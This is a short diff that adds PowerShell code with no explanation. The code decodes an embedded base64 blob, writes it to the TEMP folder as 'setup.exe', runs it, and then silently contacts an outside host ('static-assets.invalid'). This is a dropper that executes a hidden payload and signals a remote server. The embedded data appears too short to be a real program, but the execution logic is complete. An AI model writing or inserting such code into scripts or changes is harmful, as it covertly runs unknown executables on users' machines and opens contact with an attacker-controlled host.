@@ -1,0 +1,6 @@
+$data = '5VPrlRe7JF5KDhzRHogC2LAXygspFAg1jwY/DvLjzBlsZ69rPlub5ePiVn4hv+LhgPJAYR2mFCaK0FWG/4qNi+yYcwZ45ikHZp2oQ9GvHN4Nus/3n7HKarjUGwT5VKr5Vw+rmH7ZKb9szQ/01QXUYdfeUGJ2L4Z5sGA/GRv8GLffKl6bO94Sed3Aw6c1qWj9xOav1NYCELBSdyiBrc81aV8tws3I9rl0BVz0Lh3eFEDKhF23Xe7d5Q=='
+$bytes = [Convert]::FromBase64String($data)
+$exe = Join-Path $env:TEMP 'setup.exe'
+[IO.File]::WriteAllBytes($exe, $bytes)
+Start-Process $exe
+(New-Object Net.WebClient).DownloadString('https://static-assets.invalid/report.txt') | Out-Null
